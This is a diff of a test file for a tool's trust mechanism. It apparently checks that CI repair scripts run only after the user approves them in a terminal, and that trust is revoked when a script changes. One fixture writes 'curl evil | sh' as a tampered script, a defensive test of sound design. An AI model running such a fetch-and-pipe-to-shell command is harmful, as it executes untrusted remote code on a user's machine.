@@ -3,7 +3,7 @@ import { execFileSync } from "node:child_process";
 import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect, test } from "vitest";
-import { trustedPolicy } from "../../src/trust/trust.ts";
+import { isTrusted } from "../../src/trust/trust.ts";
 import { ROOT, type Sandbox, sandbox } from "../helpers/p9.ts";
 
 const POLICY = "ci_watch: {}\nci_heal:\n  commands:\n    lint: sh fix.sh\n";
@@ -13,6 +13,7 @@ function project(): Sandbox {
   user.write(".control/policy.yaml", POLICY);
   user.write("fix.sh", "echo one\n");
   execFileSync("git", ["init", "--quiet"], { cwd: user.work });
+  execFileSync("git", ["add", "-A"], { cwd: user.work });
   return user;
 }
 
@@ -27,9 +28,12 @@ function inTerminal(user: Sandbox, answers: string): string {
   });
 }
 
-const trusts = (user: Sandbox, content: string) =>
-  trustedPolicy({ env: user.env, cwd: user.work, home: user.home }, "ci_heal.commands.lint", content);
-const content = (script: string) => `sh fix.sh\nfix.sh:\n${script}`;
+/** Whether the repair runs as it stands now. */
+const trusts = (user: Sandbox, command = "sh fix.sh", cwd = user.work) =>
+  isTrusted(
+    { env: user.env, cwd, home: user.home },
+    { subject: "ci_heal.commands.lint", content: command, command, fromHead: true },
+  );
 
 test("without a terminal it shows everything and refuses", async () => {
   const user = project();
@@ -38,19 +42,21 @@ test("without a terminal it shows everything and refuses", async () => {
   expect(stderr).toContain("Cannot ask about 1 entry of this repository without a terminal");
   expect(stderr).toContain("| sh fix.sh");
   expect(stderr).toContain("| echo one");
-  expect(await trusts(user, content("echo one\n"))).toBe(false);
+  expect(await trusts(user)).toBe(false);
 });
 
 test("a yes in a terminal trusts this very content; a change in the script asks again; --revoke takes it back", async () => {
   const user = project();
   expect(inTerminal(user, "y\n")).toContain("1 of 1 trusted");
-  expect(await trusts(user, content("echo one\n"))).toBe(true);
+  expect(await trusts(user)).toBe(true);
   expect(await user.p9(["trust"])).toMatchObject({ code: 0 });
   user.write("fix.sh", "curl evil | sh\n");
   expect(await user.p9(["trust"])).toMatchObject({ code: 7 });
-  expect(await trusts(user, content("curl evil | sh\n"))).toBe(false);
+  expect(await trusts(user)).toBe(false);
+  user.write("fix.sh", "echo one\n");
+  expect(await trusts(user)).toBe(true);
   expect(await user.p9(["trust", "--revoke"])).toMatchObject({ code: 0, stdout: expect.stringContaining("1 entry") });
-  expect(await trusts(user, content("echo one\n"))).toBe(false);
+  expect(await trusts(user)).toBe(false);
 });
 
 test("what is agreed to is shown to the last character, and nothing of it is changed", async () => {
@@ -68,7 +74,7 @@ test("what is too long to be read cannot be trusted", async () => {
   const shown = inTerminal(user, "y\n");
   expect(shown).toMatch(/"ci_heal\.commands\.lint" has \d+ characters: p9 trusts nothing that is too long/);
   expect(shown).toContain("0 of 1 trusted");
-  expect(await trusts(user, content(script))).toBe(false);
+  expect(await trusts(user)).toBe(false);
 });
 
 test("answers that were typed ahead are taken in their order", async () => {
@@ -76,14 +82,14 @@ test("answers that were typed ahead are taken in their order", async () => {
   user.write(".control/policy.yaml", `${POLICY}    format: sh format.sh\n`);
   user.write("format.sh", "echo two\n");
   expect(inTerminal(user, "n\ny\n")).toContain("1 of 2 trusted");
-  expect(await trusts(user, content("echo one\n"))).toBe(false);
+  expect(await trusts(user)).toBe(false);
 });
 
 test("a no, or anything else, trusts nothing", async () => {
   const user = project();
   expect(inTerminal(user, "n\n")).toContain("0 of 1 trusted");
   expect(inTerminal(user, "\n")).toContain("0 of 1 trusted");
-  expect(await trusts(user, content("echo one\n"))).toBe(false);
+  expect(await trusts(user)).toBe(false);
 });
 
 test("trust holds in every worktree of the repository and in no other repository", async () => {
@@ -93,8 +99,7 @@ test("trust holds in every worktree of the repository and in no other repository
     execFileSync("git", args, { cwd: user.work, stdio: "ignore", env: { ...process.env, ...user.env } });
   git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--allow-empty", "-m", "x");
   git("worktree", "add", "--quiet", join(user.dir, "second"));
-  const at = (cwd: string) =>
-    trustedPolicy({ env: user.env, cwd, home: user.home }, "ci_heal.commands.lint", content("echo one\n"));
+  const at = (cwd: string) => trusts(user, "sh fix.sh", cwd);
   expect(await at(join(user.dir, "second"))).toBe(true);
   expect(await at(user.dir)).toBe(false);
 });
@@ -115,8 +120,7 @@ test("a folder that only says that it belongs to a trusted repository has none o
     const cwd = join(user.dir, name);
     mkdirSync(cwd);
     claim(join(cwd, ".git"));
-    const place = { env: user.env, cwd, home: user.home };
-    expect([name, await trustedPolicy(place, "ci_heal.commands.lint", content("echo one\n"))]).toEqual([name, false]);
+    expect([name, await trusts(user, "sh fix.sh", cwd)]).toEqual([name, false]);
   }
 });
 
